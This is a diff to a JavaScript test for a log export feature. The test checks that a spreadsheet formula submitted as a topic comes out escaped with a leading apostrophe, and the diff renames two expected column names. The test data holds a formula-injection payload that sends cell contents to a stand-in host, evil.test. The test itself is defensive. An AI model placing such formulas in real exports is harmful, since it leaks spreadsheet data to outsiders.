@@ -283,7 +283,7 @@ describe('log export:', () => {
       const topic = '=HYPERLINK("http://evil.test?"&A1,"see")';
       await served.as('editor@demo.test').post('/api/circular/add', { topic, link: 'https://x.test' });
       const [row] = await rowsOf(await take('admin@demo.test', { kind: 'circular', user: 'editor' }));
-      expect(row).toMatchObject({ Name: `'${topic}`, Address: '127.0.0.1', Program: 'node' });
+      expect(row).toMatchObject({ Name: `'${topic}`, 'IP address': '127.0.0.1', Browser: 'node' });
     });
 
     it('contains for a user who is no administrator only their own part', async () => {
